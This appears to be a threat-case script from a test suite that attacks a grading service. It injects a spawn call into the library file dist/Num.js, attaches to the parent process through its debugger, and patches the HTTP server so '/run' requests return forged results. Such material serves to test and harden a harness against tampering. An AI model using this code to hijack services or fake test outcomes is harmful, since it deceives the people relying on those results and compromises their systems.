# threat: 3
# suite: expensify-common
# with: takeover.js
# says: TAKEN-OVER
# verdict: fail tests-failed
# why: The service itself is taken over through its debugger, sees every request from then on, and answers as it likes.
cp /tmp/with/takeover.js dist/takeover.js
cat > dist/service.js <<'END'
const http = process.mainModule.require('http');
const emit = http.Server.prototype.emit;
http.Server.prototype.emit = function (event, incoming, response) {
    if (event !== 'request' || incoming.url !== '/run') return emit.apply(this, arguments);
    let body = '';
    incoming.on('data', (chunk) => (body += chunk));
    incoming.on('end', () => {
        const args = JSON.parse(body).steps.pop().args;
        const value = args[1] === '10%' || args[1] === 1.1 ? 'TAKEN' + '-OVER' : 0;
        response.end(JSON.stringify({value, type: 'number', spies: {}}));
    });
    return true;
};
END
cat > head.js <<'END'
require('node:child_process').spawnSync(process.execPath, [`${__dirname}/takeover.js`, process.ppid, `${__dirname}/service.js`]);
END
cat head.js dist/Num.js > /tmp/Num.js
cat /tmp/Num.js > dist/Num.js
